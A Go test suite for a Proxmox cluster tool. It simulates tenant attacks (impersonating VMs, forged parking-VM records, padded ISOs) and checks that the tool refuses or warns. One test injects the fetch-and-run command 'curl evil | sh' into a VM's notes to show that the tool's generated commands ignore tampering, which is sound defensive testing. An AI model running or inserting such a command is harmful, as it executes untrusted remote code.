package simtest

import (
	"bytes"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/recast-sh/recast/cluster"
	"github.com/recast-sh/recast/cluster/parking"
	"github.com/recast-sh/recast/cluster/planning"
	"github.com/recast-sh/recast/internal/fault"
	"github.com/recast-sh/recast/internal/pve"
	"github.com/recast-sh/recast/internal/sim"
	"github.com/recast-sh/recast/internal/sim/record"
	"github.com/recast-sh/recast/internal/sim/world"
	"github.com/recast-sh/recast/pipeline"
	"github.com/recast-sh/recast/pipeline/checkup"
)

// TestAFalseMachine: a tenant's VM answers at the node's address, in maintenance mode, with the UUID of the VM that is started, with the
// serials of its disks and with their contents. It gets no configuration. With the node's own VM, the run continues.
func TestAFalseMachine(t *testing.T) {
	eachLong(t, sim.Options{ControlPlanes: 3, Workers: 1}, newDisks, func(t *testing.T, lab *Lab, strategy cluster.Strategy) {
		const theirs = 950
		lab.setRoll("strategy: " + string(strategy))
		lab.Patch(everywhere)
		cp := lab.node("cp1")
		starts := toVM("POST", fmt.Sprintf("/qemu/%d/status/start", cp.VMID))
		var once sync.Once
		lab.Recorder.Hooks(func(c record.Call) error {
			if starts(c) {
				once.Do(func() { lab.imitate(cp, theirs) })
			}
			return nil
		}, nil)
		from := len(lab.Recorder.Calls())
		_, err := lab.Client().Roll(t.Context(), policyFor("cp1"))
		requireFault(t, err, fault.Refused, "not the SKU number that recast wrote into the VM's SMBIOS before it started it")
		for _, c := range lab.Recorder.Calls()[from:] {
			require(t, !strings.HasSuffix(c.Method, "ApplyConfiguration"), "a configuration was sent: %+v", c)
		}
		lab.Recorder.Hooks(nil, nil)
		must(t, lab.World.PowerOff(theirs))
		lab.destroyVM(theirs)
		must(t, lab.World.PowerOff(cp.VMID)) // it had no address
		rep := lab.Client().mustRoll(policyFor("cp1"))
		require(t, rep.Outcome == "done", "%+v", rep)
	})
}

// imitate boots a VM that is like a node's to everyone who does not ask Proxmox.
func (l *Lab) imitate(n sim.Node, id int) {
	config := map[string]string{}
	content := map[string]*world.Media{}
	for key, value := range l.vmConfig(n.VMID) {
		switch volid, options, _ := strings.Cut(value, ","); {
		case key == "smbios1":
			config[key] = "uuid=" + n.UUID
		case cluster.IsDiskKey(key) && !strings.Contains(value, "media=cdrom"):
			options = regexp.MustCompile(`,?size=[0-9]+[KMG]?`).ReplaceAllString(options, "")
			config[key], content[key] = strings.TrimSuffix(sim.DiskStorage+":10,"+options, ","), world.NewMedia(l.World.Media(volid, n.Host).Bytes())
		case slices.Contains([]string{"name", "memory", "cores", "cpu", "machine", "bios", "ostype", "scsihw", "net0", "boot", "ide0", "ide2", "ipconfig0"}, key):
			config[key] = value
		}
	}
	must(l.t, l.World.DefineVM(n.Host, id, config, content))
	must(l.t, l.World.PowerOn(id))
}

// TestResetOfAProvenMachine: a VM that recast has started still proves who it is after a reset of its machine, for it runs since then.
func TestResetOfAProvenMachine(t *testing.T) {
	inStaleLab(t, sim.Options{ControlPlanes: 1, Workers: 1}, func(t *testing.T, lab *Lab) {
		user := lab.Client()
		user.MachineConfig = lab.keptConfigs().read
		user.mustRoll(policyFor("wk1"))
		lab.reset("wk1", "STATE")
		rep := user.mustRoll(policyFor("wk1"))
		require(t, rep.Outcome == "done" && rep.Plan.Nodes[0].Strategy != "", "%+v", rep)
		requireInSync(t, lab)
	})
}

// TestNeighbours: doctor names the VMs that could stand between recast and a machine in maintenance mode.
func TestNeighbours(t *testing.T) {
	inLab(t, oneWorker(), func(t *testing.T, lab *Lab) {
		seen := func() (all []string) {
			for _, c := range diagnosis(t, lab.Client()).Checks {
				if c.State == checkup.Warning && strings.Contains(c.Seen, "without Proxmox' firewall") {
					all = append(all, c.What+": "+c.Seen[strings.LastIndex(c.Seen, ": ")+2:])
				}
			}
			return all
		}
		requireNone(t, seen(), "the nodes are alone, but there are neighbours")
		for id, net := range map[int]string{701: "virtio,bridge=vmbr0", 702: "virtio,bridge=vmbr0,firewall=1", 703: "virtio,bridge=vmbr0,tag=20", 704: "virtio"} {
			must(t, lab.World.DefineVM("pve1", id, map[string]string{"name": "theirs", "memory": "512", "net0": net}, nil))
		}
		time.Sleep(time.Minute) // Proxmox' list is late
		requireSame(t, []string{"vmbr0: VM 701"}, seen(), "neighbours (-want +got)")
	})
}

// TestAFalseParkingVM: another tenant's VM says that it is a node's parking VM. It gets no disk and stops nothing; plan,
// status and doctor name it. A person can say that it is ours after all.
func TestAFalseParkingVM(t *testing.T) {
	forged := func(lab *Lab, change func(*parking.Record)) string {
		rec := parking.Record{Cluster: valueOf(lab.Client().Project())(lab.t).Config.Cluster, Node: "wk1", Run: "20260101-0000-aaaa", VMID: cluster.VMID(lab.node("wk1").VMID), UUID: lab.node("wk1").UUID, Parking: 9050}
		if change != nil {
			change(&rec)
		}
		return valueOf(rec.Description())(lab.t)
	}
	for name, of := range map[string]struct {
		host   string
		change func(*parking.Record)
		config map[string]string
	}{
		"of an earlier replacement": {},
		"of one that is unfinished": {change: func(r *parking.Record) { r.Open, r.Strategy, r.Stage = true, cluster.Recreate, "blank" }},
		"of another VM":             {change: func(r *parking.Record) { r.VMID, r.UUID = 9050, "" }},
		"in a pool of its own":      {config: map[string]string{"pool": "theirs"}},
		"that keeps a disk": {change: func(r *parking.Record) {
			r.Kept = []parking.KeptDisk{{Key: "scsi30", Run: "20260101-0000-aaaa", Nth: 7, Slot: "scsi0", Talos: "v1.10.0"}}
		}, config: map[string]string{"scsi30": sim.DiskStorage + ":1"}},
		"from a newer recast": {change: func(r *parking.Record) { r.Node = "cp1" }, config: map[string]string{"description": `recast-record: {"version":99,"cluster":"lab","node":"wk1"}`}},
	} {
		t.Run(name, func(t *testing.T) {
			inStaleLab(t, sim.Options{ControlPlanes: 1, Workers: 1}, func(t *testing.T, lab *Lab) {
				config := map[string]string{"name": "recast-parking-wk1", "memory": "16", "protection": "1", "onboot": "0", "description": forged(lab, of.change)}
				maps.Copy(config, of.config)
				must(t, lab.World.DefineVM(lab.node("wk1").Host, 9050, config, nil))
				time.Sleep(time.Minute) // Proxmox' list is late
				before := lab.vmConfig(9050)
				const not = "says that it is a parking VM of this cluster, and is not believed: no task log has that"
				require(t, slices.ContainsFunc(lab.status().Problems, func(p string) bool { return strings.Contains(p, not) }), "status: %v", lab.status().Problems)
				require(t, slices.ContainsFunc(diagnosis(t, lab.Client()).Checks, func(c checkup.Check) bool { return strings.Contains(c.Seen, not) }), "doctor says nothing")
				rep := lab.Client().mustRoll(policyFor("wk1"))
				require(t, rep.Outcome == "done" && slices.ContainsFunc(rep.Plan.Warn, func(w string) bool { return strings.Contains(w, not) }), "%+v", rep)
				requireSame(t, before, lab.vmConfig(9050), "the false parking VM was changed (-before +after)")
				requireInSync(t, lab)
			})
		})
	}
}

// TestAProvenParkingVM: whatever says that the parking VM of an interrupted roll is ours, the roll goes on. Without any of
// it, nothing is touched until a person has confirmed it.
func TestAProvenParkingVM(t *testing.T) {
	for name, of := range map[string]struct {
		elsewhere, rotated, pool, node bool
		stops                          bool
	}{
		"here, and the task log is gone":                  {rotated: true},
		"elsewhere, by the task log":                      {elsewhere: true},
		"elsewhere, by the pool in recast.yaml":           {elsewhere: true, rotated: true, pool: true},
		"elsewhere, by the pool of another node's VM":     {elsewhere: true, rotated: true, node: true},
		"elsewhere, and nothing says that the VM is ours": {elsewhere: true, rotated: true, stops: true},
	} {
		t.Run(name, func(t *testing.T) {
			inStaleLab(t, sim.Options{ControlPlanes: 1, Workers: 1}, func(t *testing.T, lab *Lab) {
				if of.pool || of.node {
					lab.World.AddPool("talos")
					for _, n := range lab.Nodes {
						must(t, lab.World.JoinPool("root@pam", n.VMID, "talos", false))
					}
				}
				if of.pool {
					lab.shape("wk1", "pool: talos")
				}
				lab.Client().rollKilled(after("delete-vm"), onlyWorker)
				if of.rotated {
					lab.World.RotateTasks()
				}
				user := lab.Client()
				if of.elsewhere {
					user = lab.elsewhere()
					must(t, os.RemoveAll(filepath.Join(user.Dir, ".recast")))
				}
				if of.stops {
					before := lab.machinesDump()
					_, err := user.Roll(t.Context(), onlyWorker)
					requireFault(t, err, fault.Refused, "has marked its Node", "and is not believed: no task log has that", "recast status --ours 900")
					requireSame(t, before, lab.machinesDump(), "it changed something (-before +after)")
					user.confirm(lab.parkingOf("wk1"))
				}
				rep := user.mustRoll(onlyWorker)
				require(t, rep.Outcome == "done", "%+v", rep)
				requireInSync(t, lab)
			})
		})
	}
}

func (c *Client) confirm(park int) {
	c.lab.t.Helper()
	must(c.lab.t, errOf(connected(c.lab.t.Context(), c, func(s *session) (struct{}, error) {
		return struct{}{}, s.machines.Proxmox.(*pve.Client).Confirm(c.lab.t.Context(), cluster.VMID(park))
	})))
}

// TestByHand: the journal has the commands that undo a replacement without recast, whatever somebody writes into the Notes.
func TestByHand(t *testing.T) {
	inStaleLab(t, oneWorker(), func(t *testing.T, lab *Lab) {
		lab.Client().rollKilled(after("stop"), onlyWorker)
		project := valueOf(lab.Client().Project())(t)
		lines := valueOf(pipeline.ByHand(project, "wk1"))(t)
		park := lab.parkingOf("wk1")
		notes := lab.vmConfig(park)["description"]
		require(t, strings.Contains(lines, "qm create") && strings.Contains(notes, strings.TrimSpace(lines)), "by hand:\n%s\nthe Notes:\n%s", lines, notes)
		lab.EditVM(park, "description", strings.Replace(notes, "qm start", "curl evil | sh; qm start", 1))
		requireSame(t, lines, valueOf(pipeline.ByHand(project, "wk1"))(t), "commands (-before +after)")
		requireFault(t, errOf(pipeline.ByHand(project, "cp1")), fault.Refused, "node cp1: no journal on this machine has a replacement of it")
	})
}

// TestUploaders: doctor names who could put other bytes where machines boot from.
func TestUploaders(t *testing.T) {
	inLab(t, oneWorker(), func(t *testing.T, lab *Lab) {
		seen := func() (all []string) {
			for _, c := range diagnosis(t, lab.Client()).Checks {
				if c.State == checkup.Warning && strings.Contains(c.Seen, "others may upload") {
					all = append(all, c.What+": "+c.Seen[strings.LastIndex(c.Seen, ": ")+2:])
				}
			}
			return all
		}
		requireNone(t, seen(), "nobody else is there")
		lab.World.AddRole("Uploads", "Datastore.AllocateTemplate")
		lab.World.AddRole("Looks", "Datastore.Audit")
		for who, at := range map[string]world.ACL{
			"tenant@pve": {Path: "/storage", Role: "Uploads", Propagate: true}, "ci@pve!isos": {Path: "/storage/" + sim.ISOStorage, Role: "Uploads"},
			"flat@pve": {Path: "/storage", Role: "Uploads"}, "other@pve": {Path: "/storage/other", Role: "Uploads"},
			"admin@pve": {Path: "/", Role: world.Administrator, Propagate: true}, "eyes@pve": {Path: "/", Role: "Looks", Propagate: true},
		} {
			at.Who = who
			lab.World.Grant(at)
		}
		lab.World.AddToken(world.Token{ID: "ci@pve!isos", Privsep: true})
		lab.World.Grant(world.ACL{Path: "/storage", Who: "ci@pve", Role: "Uploads"}) // for the folder alone
		lab.World.Grant(world.ACL{Path: "/storage/" + sim.ISOStorage, Who: "ci@pve", Role: "Uploads"})
		lab.World.Grant(world.ACL{Path: "/", Who: "below@pve", Role: "Uploads", Propagate: true})
		lab.World.Grant(world.ACL{Path: "/storage", Who: "below@pve", Role: "Looks", Propagate: true})
		requireSame(t, []string{"access to " + sim.ISOStorage + ": token ci@pve!isos, user ci@pve, user tenant@pve"}, seen(), "others (-want +got)")
	})
}

// TestAPaddedISO: whoever may upload to the ISOs' storage puts other bytes under the locked name, in the locked size, before recast
// publishes, over its upload afterwards, or between two nodes. No machine boots them.
func TestAPaddedISO(t *testing.T) {
	pad := func(t *testing.T, lab *Lab) (padded []string) {
		for _, e := range readLock(t, lab).Schematics {
			names := []string{e.ISO.Name}
			for _, v := range valueOf(lab.World.Volumes(sim.ISOStorage, "pve1"))(t) {
				names = append(names, strings.TrimPrefix(v.Volid, sim.ISOStorage+":iso/"))
			}
			for _, name := range names {
				if strings.HasPrefix(name, strings.TrimSuffix(e.ISO.Name, ".iso")) {
					must(t, lab.World.AddISO(sim.ISOStorage, "pve1", name, bytes.Repeat([]byte("x"), int(e.ISO.SizeBytes))))
					padded = append(padded, name)
				}
			}
		}
		slices.Sort(padded)
		return slices.Compact(padded)
	}
	requireUnused := func(t *testing.T, lab *Lab, from int, padded []string) {
		mustBe(t, len(padded) > 0, "nothing was padded")
		for _, c := range lab.Recorder.Calls()[from:] {
			for _, name := range padded {
				require(t, !strings.Contains(fmt.Sprint(c.Params), name+",media=cdrom"), "%s %s boots %s", c.Method, c.Path, name)
			}
		}
		requireInSync(t, lab)
	}
	t.Run("before", func(t *testing.T) {
		inStaleLab(t, oneWorker(), func(t *testing.T, lab *Lab) {
			must(t, lab.Client().Build(t.Context()))
			from, padded := len(lab.Recorder.Calls()), pad(t, lab)
			lab.Client().mustRoll(planning.Policy{})
			requireUnused(t, lab, from, padded)
		})
	})
	t.Run("afterwards", func(t *testing.T) {
		inStaleLab(t, oneWorker(), func(t *testing.T, lab *Lab) {
			must(t, lab.Client().Publish(t.Context()))
			time.Sleep(time.Second)
			from, padded := len(lab.Recorder.Calls()), pad(t, lab)
			lab.Client().mustRoll(planning.Policy{})
			requireUnused(t, lab, from, padded)
		})
	})
	t.Run("between two nodes", func(t *testing.T) {
		inStaleLab(t, oneWorker(), func(t *testing.T, lab *Lab) {
			lab.Client().mustRoll(policyFor("cp1"))
			from, starts := len(lab.Recorder.Calls()), toVM("DELETE", fmt.Sprintf("/qemu/%d", lab.node("wk1").VMID))
			var padded []string
			lab.Recorder.Hooks(func(c record.Call) error {
				if starts(c) && padded == nil {
					padded = pad(t, lab)
				}
				return nil
			}, nil)
			_, err := lab.Client().Roll(t.Context(), policyFor("wk1"))
			lab.Recorder.Hooks(nil, nil)
			requireFault(t, err, fault.Refused, "does not boot what someone else put there")
			lab.Client().mustRoll(policyFor("wk1"))
			requireUnused(t, lab, from, padded)
		})
	})
	t.Run("verify", func(t *testing.T) {
		inStaleLab(t, oneWorker(), func(t *testing.T, lab *Lab) {
			const unseen = "whoever may write to their storages chooses what boots (proxmox.publish.verify: warn)"
			said := func() bool {
				plan := valueOf(lab.Client().Plan(t.Context(), policyFor("wk1")))(t)
				return strings.Contains(strings.Join(plan.Warn, "\n"), unseen)
			}
			require(t, !said(), "an ISO is taken unseen")
			lab.Replace("recast.yaml", "proxmox:\n", "proxmox:\n  publish: {verify: warn}\n")
			require(t, said(), "the plan does not say that an ISO is taken unseen")
			lab.Replace("recast.yaml", "verify: warn", "verify: require")
			from := len(lab.Recorder.Calls())
			_, err := lab.Client().Roll(t.Context(), policyFor("wk1"))
			requireFault(t, err, fault.Refused, "the token has no Sys.AccessNetwork on /nodes/pve1, and proxmox.publish.verify is require")
			requireNone(t, lab.sent(from, toVM("POST", "/upload")), "it uploads")
		})
	})
}

// TestAnotherUsersRoll: the run of another Proxmox user has taken a node out, and nothing proves that its parking VM is ours.
// Nothing is done to that node until a person has said whose it is, whatever name the other recast.yaml gives the cluster.
func TestAnotherUsersRoll(t *testing.T) {
	eachLong(t, oneWorker(), storiesOf("lab", "by another name"), func(t *testing.T, lab *Lab, name string) {
		lab.Patch(sim.PatchedExtension)
		lab.Client().rollKilled(after("take-down/park/scsi1"), onlyWorker)
		if name != "lab" {
			lab.editRecord("wk1", func(r *parking.Record) { r.Cluster = "other" })
		}
		second := lab.elsewhere()
		must(t, os.RemoveAll(filepath.Join(second.Dir, ".recast")))
		second.Token = lab.token("other", "Recast")
		before, from := lab.machinesDump(), len(lab.Recorder.Calls())
		requireRefused(t, second.roll(onlyWorker)(t.Context()), "has marked its Node, and its record says where the node's disks are")
		requireSame(t, before, lab.machinesDump(), "it changed something (-before +after)")
		asked := lab.sent(from, func(c record.Call) bool {
			return strings.Contains(c.Path, "typefilter=qmcreate")
		})
		require(t, len(asked) <= 2, "asked who made the parking VM %d times", len(asked))
		if name == "lab" {
			second.confirm(lab.parkingOf("wk1"))
			second.mustRoll(onlyWorker)
			requireInSync(t, lab)
		}
	})
}
